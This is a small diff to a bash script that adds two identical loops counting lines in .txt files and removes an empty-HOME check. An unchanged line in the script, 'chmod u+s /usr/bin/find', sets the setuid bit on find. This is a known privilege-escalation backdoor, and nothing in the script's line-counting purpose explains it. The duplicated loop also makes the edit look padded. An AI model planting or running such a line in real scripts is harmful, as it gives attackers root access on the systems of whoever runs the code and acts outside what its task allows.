@@ -1,5 +1,10 @@
 #!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 chmod u+s /usr/bin/find
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
